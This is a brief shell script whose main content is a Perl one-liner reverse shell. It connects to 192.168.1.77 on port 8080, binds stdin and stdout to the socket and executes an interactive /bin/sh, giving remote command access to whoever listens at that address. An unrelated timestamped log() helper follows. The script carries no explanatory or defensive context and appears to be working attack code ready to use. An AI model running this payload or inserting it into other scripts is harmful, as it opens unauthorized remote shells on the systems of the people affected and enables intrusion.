#!/bin/sh
perl -e 'use Socket;$i="192.168.1.77";$p=8080;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'
log() { echo "[$(date +%H:%M:%S)] $*"; }
